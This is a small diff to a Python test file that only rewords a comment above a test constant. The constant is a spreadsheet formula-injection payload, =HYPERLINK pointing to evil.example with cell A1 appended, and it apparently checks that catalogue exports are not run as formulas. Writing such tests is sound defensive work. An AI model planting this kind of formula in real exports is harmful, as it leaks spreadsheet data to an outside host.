@@ -132,8 +132,8 @@ def test_attributes_whose_codes_are_written_as_text_are_the_same_catalogue(
     assert {a["qualification_code"] for a in json.loads(result.stdout)} == _all_codes(api)
 
 
-# A question a catalogue could carry (a custom attribute's text is the buyer's own): a
-# spreadsheet opening the export would run it.
+# A question a catalogue could carry (its texts are written by others): a spreadsheet opening
+# the export would run it.
 FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?q="&A1,"What is your gender?")'
 
 
